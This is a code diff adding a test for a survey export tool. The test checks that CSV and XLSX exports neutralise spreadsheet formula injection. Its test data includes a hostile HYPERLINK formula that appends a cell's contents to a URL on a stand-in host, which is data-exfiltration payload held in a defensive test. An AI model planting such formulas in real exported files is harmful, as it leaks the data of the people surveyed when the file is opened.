@@ -249,3 +249,39 @@ def test_a_read_only_folder_is_the_clear_message_naming_the_file(filled, tmp_pat
         assert str(ro) in msg and "ks-xlsx" not in msg and "Errno" not in msg and "Permission denied" not in msg
     assert "chỉ đọc" in e.value.message("vi")
     assert list(ro.iterdir()) == []
+
+
+def test_csv_text_that_excel_would_run_is_defused_numbers_are_not(tmp_path):
+    """CR 12: a text answer starting with = + - @ (or a tab) gets a leading apostrophe in the CSV, so
+    Excel shows it instead of running it; negative numbers stay numbers; the XLSX holds text cells."""
+    import csv
+    import zipfile
+
+    hostile = '=HYPERLINK("http://x.example/?"&A2,"Xem")'
+    store, ids = make_store(tmp_path / "f.db", [
+        ("10001", "complete", {"consent": "1", "head_name": hostile, "phone": "+84912345678",
+                               "note_free": "@SUM(1)", "hh_internet": "1", "net_type": "fibre", "ict_spend": "-5",
+                               "income": "-0.5", "hh_sell": "2",
+                               "mem": [{"m_name": "-Ấn", "m_age": "45", "m_sex": "1", "m_net": "2",
+                                        "m_cccd": "\t001085012345"}]}),
+        ("10001", "complete", {"consent": "1", "head_name": "Lê Văn Đức", "hh_internet": "2", "ict_spend": "7",
+                               "income": "8", "hh_sell": "2"})])
+    try:
+        res = run_export(store, out=tmp_path / "o", fmt="csv")
+        run_export(store, out=tmp_path / "o.xlsx", fmt="xlsx")
+    finally:
+        store.close()
+    with open(res.files[0], encoding="utf-8-sig", newline="") as fh:
+        rows = list(csv.DictReader(fh))
+    first = rows[0]
+    assert first["head_name"] == "'" + hostile and first["phone"] == "'+84912345678"
+    assert first["note_free"] == "'@SUM(1)"
+    assert first["ict_spend"] == "-5" and first["income"] == "-0.5"  # numbers stay numbers
+    assert rows[1]["head_name"] == "Lê Văn Đức"  # ordinary text unchanged
+    with open(res.files[1], encoding="utf-8-sig", newline="") as fh:
+        mem = list(csv.DictReader(fh))
+    assert mem[0]["m_name"] == "'-Ấn"
+    with zipfile.ZipFile(tmp_path / "o.xlsx") as z:
+        sheets = [z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/")]
+    assert not any("<f>" in x for x in sheets)  # never a formula cell
+    assert any("=HYPERLINK(" in x and 't="inlineStr"' in x for x in sheets)
